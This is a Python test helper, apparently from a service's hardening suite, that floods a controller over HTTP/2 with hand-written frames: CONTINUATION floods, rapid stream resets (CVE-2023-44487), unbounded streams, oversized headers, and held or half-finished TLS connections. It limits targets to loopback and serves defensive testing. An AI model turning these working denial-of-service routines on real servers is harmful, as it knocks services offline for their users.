#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A hostile client of the controller's ports, for hardening_test.sh.

  h2_flood.py flood HOST PORT KIND SECONDS [--ca CA] [--path PATH] [--source ADDR]
      HOST may be unix:PATH (the controller's local socket; PORT is then
      ignored). Speaks HTTP/2 (over TLS with ALPN h2 when --ca is given) and, for
      SECONDS, sends one kind of abuse on as many connections as it takes:
        continuation  a HEADERS frame without END_HEADERS, then CONTINUATION
                      frames of header fields without end (CVE-2023-33953)
        reset         streams opened and reset at once (CVE-2023-44487)
        streams       streams opened and left open, far past the bound
        headers       one request with 1 MiB of header fields
      Prints how many frames it sent. Never targets anything but HOST.

  h2_flood.py hold HOST PORT COUNT [--source ADDR | --spread N] [--tls-hello]
      Opens COUNT TCP connections (from ADDR when given, or from N
      addresses 127.0.1.1 to 127.0.1.N in turn) and holds them,
      saying nothing (or only a partial TLS ClientHello with --tls-hello),
      until its standard input closes; prints how many it opened.

Frames are written by hand (RFC 9113, HPACK literals of RFC 7541): the
point is to send what a well-behaved library would not.
"""
import argparse
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def length_prefixed(data):
    # An HPACK string literal, not Huffman-coded; 7-bit prefix integer.
    n = len(data)
    if n < 127:
        return bytes([n]) + data
    out = bytearray([127])
    n -= 127
    while n >= 128:
        out.append((n & 127) | 128)
        n >>= 7
    out.append(n)
    return bytes(out) + data


def literal(name, value):
    # Literal header field without indexing, new name.
    return b"\x00" + length_prefixed(name) + length_prefixed(value)


def request_block(path, scheme):
    return (b"\x83" + (b"\x87" if scheme == "https" else b"\x86") +
            b"\x04" + length_prefixed(path.encode()) +
            b"\x01" + length_prefixed(b"localhost") +
            literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


def connect(host, port, ca, source=None):
    if host.startswith("unix:"):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(10)
        sock.connect(host[len("unix:"):])
    else:
        sock = socket.create_connection((host, port), timeout=10,
                                        source_address=(source, 0) if source else None)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if ca:
        context = ssl.create_default_context(cafile=ca)
        context.set_alpn_protocols(["h2"])
        sock = context.wrap_socket(sock, server_hostname=host)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    # Whatever the server says is read and dropped, so that it never waits
    # on this client's window.
    def drain():
        try:
            while sock.recv(65536):
                pass
        except OSError:
            pass
    threading.Thread(target=drain, daemon=True).start()
    return sock


def flood(args):
    scheme = "https" if args.ca else "http"
    deadline = time.monotonic() + args.seconds
    sent = 0
    connections = 0
    while time.monotonic() < deadline:
        try:
            sock = connect(args.host, args.port, args.ca, args.source)
        except OSError:
            time.sleep(0.05)
            continue
        connections += 1
        stream = 1
        try:
            if args.kind == "continuation":
                sock.sendall(frame(HEADERS, 0, 1, request_block(args.path, scheme)))
                field = literal(b"x-flood", b"v" * 4000)
                chunk = frame(CONTINUATION, 0, 1, field * 4)
                while time.monotonic() < deadline:
                    sock.sendall(chunk * 16)
                    sent += 16
            elif args.kind == "reset":
                block = request_block(args.path, scheme)
                while time.monotonic() < deadline and stream < 2**31 - 512:
                    batch = bytearray()
                    for _ in range(256):
                        batch += frame(HEADERS, END_HEADERS, stream, block)
                        batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                        stream += 2
                    sock.sendall(batch)
                    sent += 512
            elif args.kind == "streams":
                block = request_block(args.path, scheme)
                while time.monotonic() < deadline and stream < 2**31 - 512:
                    batch = bytearray()
                    for _ in range(256):
                        batch += frame(HEADERS, END_HEADERS, stream, block)
                        stream += 2
                    sock.sendall(batch)
                    sent += 256
            elif args.kind == "headers":
                block = request_block(args.path, scheme) + literal(b"x-big", b"h" * 4000) * 256
                sock.sendall(frame(HEADERS, 0, 1, block[:16000]))
                rest = block[16000:]
                while rest:
                    part, rest = rest[:16000], rest[16000:]
                    sock.sendall(frame(CONTINUATION, 0 if rest else END_HEADERS, 1, part))
                    sent += 1
                time.sleep(0.2)
        except OSError:
            pass  # the server closed it: open another while time is left
        finally:
            sock.close()
    print(f"{args.kind}: {sent} frames on {connections} connections")


def hold(args):
    held = []
    for i in range(args.count):
        source = args.source
        if args.spread:
            source = f"127.0.1.{i % args.spread + 1}"
        try:
            sock = socket.create_connection((args.host, args.port), timeout=5,
                                            source_address=(source, 0) if source else None)
            if args.tls_hello:
                # The start of a TLS record that never finishes.
                sock.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
            held.append(sock)
        except OSError:
            pass
    print(f"opened {len(held)}", flush=True)
    sys.stdin.read()
    for sock in held:
        sock.close()


def main():
    parser = argparse.ArgumentParser()
    sub = parser.add_subparsers(dest="command", required=True)
    f = sub.add_parser("flood")
    f.add_argument("host")
    f.add_argument("port", type=int)
    f.add_argument("kind", choices=["continuation", "reset", "streams", "headers"])
    f.add_argument("seconds", type=float)
    f.add_argument("--ca")
    f.add_argument("--path", default="/cohort.v1.Controller/ListNodes")
    f.add_argument("--source")
    h = sub.add_parser("hold")
    h.add_argument("host")
    h.add_argument("port", type=int)
    h.add_argument("count", type=int)
    h.add_argument("--source")
    h.add_argument("--tls-hello", action="store_true")
    h.add_argument("--spread", type=int, default=0)
    args = parser.parse_args()
    if (args.host not in ("localhost", "::1") and not args.host.startswith("127.") and
            not args.host.startswith("unix:")):
        sys.exit("h2_flood.py: only loopback addresses are targets")
    flood(args) if args.command == "flood" else hold(args)


if __name__ == "__main__":
    main()
